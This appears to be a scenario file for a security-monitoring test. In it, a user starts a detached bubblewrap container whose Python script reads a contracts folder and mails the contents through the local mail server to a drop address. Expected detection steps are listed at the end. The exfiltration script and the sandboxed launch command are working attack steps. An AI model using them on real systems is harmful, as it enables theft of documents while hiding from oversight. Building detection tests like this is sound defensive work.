# The script lies in a place of the system, as its container shows it.
title="A container's python mails documents through the own server"
what="tobi leaves a detached bwrap with ~/contracts bound to /in; python inside mails them by 127.0.0.1:25."
user=tobi daemons="cron sshd"
people="hanna tobi ines marek jule" aliases='postmaster: root\nroot: marek\norders: ines\noffice: hanna, jule\nabuse: root\n'
setup() {
  documents
  own_file /home/tobi/app/run.py <<'P'
import smtplib, time, glob
time.sleep(2)
d = ''.join(open(f).read() for f in glob.glob('/in/*'))
smtplib.SMTP('127.0.0.1').sendmail('tobi@example.org', ['arch@drop.example.net'], 'Subject: a\r\n\r\n' + d)
P
}
act() {
  small_talk 1
  ssh_run tobi 'setsid bwrap --ro-bind /usr /usr --symlink usr/bin /bin --symlink usr/lib /lib --symlink usr/lib64 /lib64 --proc /proc --dev /dev --ro-bind contracts /in --ro-bind app /app python3 /app/run.py >/dev/null 2>&1 & sleep 0.2'
  wait_log 'to=<arch@drop.example.net>.*status=sent' 20; small_talk 1
}
truth() {
  exec_step container 'bwrap .*--ro-bind app /app' 'a folder of the home becomes /app'
  exec_step run 'python3 /app/run.py' 'python runs there'
  net_step submit 'python3.11 127.0.0.1:25' 'it speaks to the own server'
  mail_step sent 'to=<arch@drop.example.net>.*status=sent' 'and the documents leave'
}
